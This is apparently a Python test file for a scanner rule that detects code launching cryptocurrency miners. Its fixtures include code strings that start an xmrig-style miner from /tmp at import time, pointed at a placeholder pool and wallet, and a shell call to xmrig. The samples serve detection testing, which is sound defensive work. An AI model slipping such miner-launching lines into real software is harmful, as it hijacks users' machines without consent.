"""Miners."""

from lazaretto.detect.rules.python.starts_miner import RULE


def test_at_import(scan):
    text = """
import subprocess
subprocess.Popen(["/tmp/x"] + "-o pool.example.test:443 --donate-level 1 -u wallet".split())
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_when_asked(scan):
    text = "import subprocess\ndef start():\n    subprocess.run('xmrig --donate-level 1', shell=True)\n"
    assert scan(RULE, text) == [(3, "MEDIUM", "MEDIUM", "run")]


def test_near_miss_a_text(scan):
    text = "import subprocess\nNOTE = 'xmrig is blocked'\nsubprocess.run(['ls'])\n"
    assert scan(RULE, text) == []
